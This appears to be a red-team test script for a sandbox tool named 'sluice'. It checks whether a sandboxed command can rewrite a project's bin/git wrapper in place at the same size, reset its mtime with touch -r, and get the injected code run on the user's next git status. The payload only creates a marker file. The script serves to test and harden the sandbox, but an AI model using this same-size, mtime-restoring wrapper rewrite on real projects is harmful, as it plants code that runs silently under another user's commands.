#!/usr/bin/env bash
# red team 46, hole 5: the PATH check takes an executable as unchanged when
# its inode, mtime and size are: the command rewrites the user's own
# shadowing wrapper (bin/git here; a Rails project's binstubs bin/rake,
# bin/bundle with direnv's PATH_add bin shadow /usr/bin/rake) in place, with
# the same size, and sets the mtime back (touch -r): not blocked, and the
# user's next git status runs it. mtime is the command's to set; ctime is
# not.
# usage: 46-path-same-size-mtime.sh /path/to/sluice   (as root or a user)
set -u
S=${1:?path to sluice}
base=$(mktemp -d /var/tmp/rt46-mtime.XXXXXX) || exit 1
trap 'rm -rf "$base"' EXIT
export HOME=$base/home
mkdir -p "$HOME"
git config --global user.name t; git config --global user.email t@example.invalid
P=$HOME/proj
mkdir -p "$P/bin" && cd "$P" && git init -q &&
  printf '#!/bin/sh\n# the project pins its own git wrapper here\nexec /usr/bin/git "$@"\n' >bin/git &&
  chmod +x bin/git && git add -A && git commit -qm a || exit 1
PATH=$P/bin:$PATH "$S" run -C "$P" -- 'touch -r bin/git /tmp/ref && n=$(wc -c <bin/git) && { printf "#!/bin/sh\ntouch \"\$HOME/pwned\"; exec /usr/bin/git \"\$@\" #"; head -c 200 /dev/zero | tr "\0" "#"; } | head -c $((n - 1)) >/tmp/new && echo >>/tmp/new && cat /tmp/new >bin/git && touch -r /tmp/ref bin/git' | tail -1
(cd "$P" && PATH=$P/bin:$PATH git status >/dev/null 2>&1)
if [ -e "$HOME/pwned" ]; then echo "HOLE: the rewritten bin/git ran in the user's git status"; exit 1; fi
echo stopped; exit 0
